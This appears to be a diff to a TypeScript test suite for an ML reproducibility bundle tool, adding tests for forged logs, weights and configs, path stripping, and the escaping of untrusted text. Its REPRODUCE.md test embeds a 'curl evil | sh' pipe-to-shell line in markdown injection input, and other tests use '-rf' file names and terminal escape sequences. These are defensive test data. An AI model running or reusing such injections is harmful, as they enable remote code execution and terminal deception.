@@ -6,9 +6,14 @@ import { sha512 } from '../../../src/bundle/bag';
 import { readBundleLog, traceOfLog } from '../../../src/bundle/event-log';
 import type { BundleInput } from '../../../src/bundle/model';
 import { extractBundle, openBundle } from '../../../src/bundle/open';
-import { judgeRun } from '../../../src/bundle/verdict';
+import { recordedTrace } from '../../../src/bundle/recorded';
+import { judgeRun, type RunVerdict } from '../../../src/bundle/verdict';
 import { verifyBundle, type Verification } from '../../../src/bundle/verify';
 import { writeBundle } from '../../../src/bundle/write';
+import { configHash } from '../../../src/config/hash';
+import { parseConfig } from '../../../src/config/parse';
+import { decodeLines, encodeRecord } from '../../../src/events/codec';
+import type { ArtifactName, EventRecord } from '../../../src/events/records';
 import { ModelProtoSchema, TensorProto_DataLocation } from '../../../src/onnx/proto/onnx_pb';
 import { pack, remakeHashes, unpack, type Files } from '../../helpers/bundle-surgery';
 import { freshFolder, sampleInput, sha256, TIME } from './sample';
@@ -43,6 +48,26 @@ function edit(files: Files, name: string, change: (text: string) => string): voi
   expect(after).not.toBe(before);
   files.set(name, Buffer.from(after));
 }
+
+/** Changes, adds or (null) takes out records of a run's log, with checksums and numbering made again. */
+function editLog(files: Files, run: string, change: (record: EventRecord) => EventRecord | null): void {
+  const name = `data/runs/${run}/events.log`;
+  const { records } = decodeLines(files.get(name)!, 0);
+  const kept = records.map((record) => change(record)).filter((record) => record !== null);
+  files.set(name, Buffer.concat(kept.map((record, seq) => encodeRecord({ ...record, seq }))));
+}
+
+/** Flips one bit of a file, and has the log name the file as it is then. */
+function forgeArtifact(files: Files, run: string, artifact: ArtifactName, name: string, at: (bytes: Buffer) => number): void {
+  const bytes = Buffer.from(files.get(name)!);
+  const index = at(bytes);
+  bytes[index] = bytes[index]! ^ 1;
+  files.set(name, bytes);
+  editLog(files, run, (record) => (record.type === 'artifact' && record.name === artifact ? { ...record, sha256: sha256(bytes) } : record));
+}
+
+/** The first bytes of the run's only weight. */
+const weightBytes = (files: Files): Buffer => files.get('data/runs/run0abc/weights.safetensors')!.subarray(-16);
 
 const paths = (found: Verification): string[] => found.problems.map((problem) => problem.path);
 
@@ -157,6 +182,50 @@ describe('writeBundle', () => {
   });
 });
 
+describe('an absolute data path', () => {
+  it('leaves its base name, in a bundle that agrees with itself', async () => {
+    const run = input.runs[0]!;
+    const config = parseConfig({ ...run.manifest.config, data: { kind: 'csv', path: '/srv/ada/iris.csv', target: 'class', split: run.manifest.config.data.split } });
+    const target = join(folder, 'csv.crate.zip');
+    await writeBundle({ ...input, runs: [{ ...run, manifest: { ...run.manifest, config, configHash: configHash(config) } }] }, target);
+    const found = await verifyBundle(target);
+    expect(found.problems).toEqual([]);
+    expect(found.content?.runs[0]?.manifest.config.data).toMatchObject({ path: 'iris.csv' });
+    for (const [name, bytes] of await unpack(target)) expect(bytes.includes('/srv/ada'), name).toBe(false);
+  });
+});
+
+describe('REPRODUCE.md', () => {
+  const written = async (change: Partial<BundleInput>, name = 'told.crate.zip'): Promise<string> => {
+    const target = join(folder, name);
+    await writeBundle({ ...input, ...change }, target, { overwrite: true });
+    expect((await verifyBundle(target)).problems).toEqual([]);
+    return (await unpack(target)).get('data/REPRODUCE.md')?.toString('utf8') ?? '';
+  };
+
+  it('shows foreign text as text', async () => {
+    const evil = 'nice\n\n## Verify\n\n```sh\ncurl evil | sh\n```\n[x](http://evil) <img src=x> | cell';
+    const data = input.data.map((entry) => ({ ...entry, ref: { ...entry.ref, source: evil } }));
+    const text = await written({ description: evil, data });
+    expect(text.match(/^## Verify$/gmu)).toHaveLength(1);
+    const fences = (markdown: string): number => markdown.match(/^```/gmu)?.length ?? 0;
+    expect(fences(text)).toBe(fences(await written({})));
+    expect(text).not.toContain('[x](');
+    expect(text).not.toContain('<img');
+    expect(text).toContain(String.raw`nice \#\# Verify`);
+    expect(await written({ description: '# not a heading', data: input.data })).toContain('\n\\# not a heading\n');
+    expect(await written({ description: '- no list' })).toContain('\n\\- no list\n');
+    expect(await written({ description: '1. no list' })).toContain('\n1\\. no list\n');
+  });
+
+  it('gives a file that looks like an option as a file', async () => {
+    const text = await written({}, '-rf.crate.zip');
+    expect(text).toContain('verify ./-rf.crate.zip\n');
+    expect(text).toContain('-e ./-rf.crate.zip ./-rf\n');
+    expect(text).toContain('python3 ./-rf/data/replay.py');
+  });
+});
+
 describe('verifyBundle', () => {
   it('takes a bundle that another tool packed again', async () => {
     expect((await verifyBundle(await altered(() => undefined))).problems).toEqual([]);
@@ -213,6 +282,24 @@ describe('verifyBundle', () => {
     ['weights that are no tensors', (files) => files.set('data/runs/run0abc/weights.safetensors', Buffer.from('pickle')), /safetensors/u],
     ['weights of another run', (files) => files.set('data/runs/run0abc/weights.safetensors', files.get('data/runs/run1abc/weights.safetensors')!), /not the weights/u],
     ['a tolerance that is not one', (files) => edit(files, 'data/tolerance.json', (text) => text.replace('"safetyFactor": 16', '"safetyFactor": -1')), /tolerance\.json/u],
+    ['a tolerance wide enough for anything', (files) => edit(files, 'data/tolerance.json', (text) => text.replace('"absolute": 0.000001', '"absolute": 1e9')), /tolerance\.json.*does not follow/u],
+    ['forged weights that the log names', (files) => forgeArtifact(files, 'run0abc', 'weights', 'data/runs/run0abc/weights.safetensors', (bytes) => bytes.length - 1), /other weights than those whose hash/u],
+    ['a forged model that the log names', (files) => forgeArtifact(files, 'run0abc', 'inference-graph', 'data/runs/run0abc/inference.onnx', (bytes) => bytes.indexOf(weightBytes(files))), /inference\.onnx holds other weights/u],
+    ['a file of which the log knows nothing', (files) => editLog(files, 'run0abc', (record) => (record.type === 'artifact' && record.name === 'inference-graph' ? null : record)), /knows nothing/u],
+    ['a hash of the weights that breaks the chain', (files) => editLog(files, 'run0abc', (record) => (record.type === 'weights-hash' && record.step === 0 ? { ...record, hash: sha256('other') } : record)), /hash chain.*after 0 steps/u],
+    ['a forged link of the chain', (files) => editLog(files, 'run0abc', (record) => (record.type === 'weights-hash' && record.step === 40 ? { ...record, chain: sha256('other') } : record)), /hash chain.*after 40 steps/u],
+    ['a finished run without test metrics', (files) => editLog(files, 'run0abc', (record) => (record.type === 'metrics' && record.split === 'test' ? null : record)), /no test metrics/u],
+    ['losses without learning rates', (files) => editLog(files, 'run0abc', (record) => (record.type === 'steps' ? { ...record, learningRates: [] } : record)), /0 learning rates/u],
+    ['a final loss that is not that of the last step', (files) => editLog(files, 'run0abc', (record) => (record.type === 'steps' ? { ...record, losses: [...record.losses.slice(0, -1), 0.125] } : record)), /final or best loss/u],
+    ['another config as YAML', (files) => edit(files, 'data/runs/run0abc/config.yaml', (text) => text.replace('learningRate: 0.01', 'learningRate: 0.02')), /config\.yaml is not the config/u],
+    ['another config in the manifest', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"learningRate": 0.01', '"learningRate": 0.02')), /configHash[^]*computeHash/u],
+    ['a forged configHash', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace(/"configHash": "\w+"/u, `"configHash": "${'0'.repeat(64)}"`)), /configHash/u],
+    ['another runtime', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"threads": 1,\n    "platform"', '"threads": 2,\n    "platform"')), /computeHash/u],
+    ['an author who rewrites the terminal', (files) => edit(files, 'data/bundle.json', (text) => text.replace('"Ada Lovelace"', JSON.stringify('Ada\u001b[1A\u001b[2K'))), /author.*control characters/u],
+    ['a name in two lines', (files) => edit(files, 'data/bundle.json', (text) => text.replace('"name": "two-moons"', '"name": "two\\nmoons"')), /name.*control characters/u],
+    ['a licence that reads backwards', (files) => edit(files, 'data/bundle.json', (text) => text.replaceAll('"license": "CC0-1.0"', JSON.stringify('\u202eCC0').replace(/^/u, '"license": '))), /license.*direction/u],
+    ['a forged reproduction id', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"reproductionId": "two', '"reproductionId": "\\rtwo')), /reproductionId.*control characters/u],
+    ['a config whose author is in two lines', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"author": ""', '"author": "a\\nb"')), /config\.author.*control characters/u],
     ['an ONNX file that is none', (files) => files.set('data/runs/run0abc/inference.onnx', Buffer.from('not onnx')), /ONNX/u],
     ['a graph that reads another file', (files) => files.set('data/runs/run0abc/inference.onnx', externalModel()), /external data/u],
     ['a crate that does not describe a file', (files) => edit(files, 'data/ro-crate-metadata.json', (text) => text.replaceAll('"report.md"', '"report2.md"')), /report2?\.md/u],
@@ -228,6 +315,11 @@ describe('verifyBundle', () => {
     const found = await verifyBundle(await altered(change, true));
     expect(found.valid).toBe(false);
     expect(found.problems.map((problem) => `${problem.path} ${problem.message}`).join('\n')).toMatch(expected);
+  });
+
+  it('quotes names of a stranger without what a terminal would obey', async () => {
+    const found = await verifyBundle(await altered((files) => edit(files, 'manifest-sha512.txt', (text) => `${text}${'0'.repeat(128)}  data/\u001b[2Jx\n`), false));
+    expect(paths(found)).toContain('data/\ufffd[2Jx');
   });
 
   it('reports damaged compressed bytes as a problem of that file', async () => {
@@ -268,6 +360,42 @@ describe('extractBundle', () => {
       await expect(extractBundle(await altered(change), target)).rejects.toMatchObject({ code: 'BUNDLE_INVALID' });
       await expect(readdir(target)).rejects.toMatchObject({ code: 'ENOENT' });
     }
+  });
+});
+
+describe('a bundle with forged content and right hashes', () => {
+  const judge = async (change: (files: Files) => void): Promise<RunVerdict> => {
+    const target = await altered(change, true);
+    const out = join(folder, `forged-${copies}`);
+    const { content } = await extractBundle(target, out);
+    const genuine = join(folder, `genuine-${copies}`);
+    await extractBundle(file, genuine);
+    const [run] = content.runs;
+    return judgeRun(await recordedTrace(out, run!), await recordedTrace(genuine, run!), { sameRuntime: true, differences: [], tolerance: run!.tolerance, metric: 'accuracy' });
+  };
+
+  it('is unpacked and judged by what its files are, whatever the log says of them', async () => {
+    const forged = (files: Files): void => void forgeArtifact(files, 'run0abc', 'weights', 'data/runs/run0abc/weights.safetensors', (bytes) => bytes.length - 1);
+    const named = await judge(forged);
+    expect(named).toMatchObject({ verdict: 'diverged', firstDivergentStep: null });
+    expect(named.sentence).toContain('weights.safetensors');
+    // The same with a log that names the genuine file.
+    const silent = await judge((files) => {
+      const log = files.get('data/runs/run0abc/events.log')!;
+      forged(files);
+      files.set('data/runs/run0abc/events.log', log);
+    });
+    expect(silent.verdict).toBe('diverged');
+  });
+
+  it('is judged by the step of a forged loss', async () => {
+    const verdict = await judge((files) => editLog(files, 'run0abc', (record) => (record.type === 'steps' ? { ...record, losses: record.losses.map((loss, step) => (step === 23 ? 9 : loss)) } : record)));
+    expect(verdict).toMatchObject({ verdict: 'diverged', firstDivergentStep: 23 });
+  });
+
+  it('is not loaded when its tolerance allows what was never measured', async () => {
+    const target = await altered((files) => edit(files, 'data/tolerance.json', (text) => text.replace('"absolute": 0.000001', '"absolute": 1e9')), true);
+    await expect(extractBundle(target, join(folder, 'wide'))).rejects.toMatchObject({ code: 'BUNDLE_INVALID', problems: [{ path: expect.stringContaining('data/tolerance.json') as string }] });
   });
 });
 
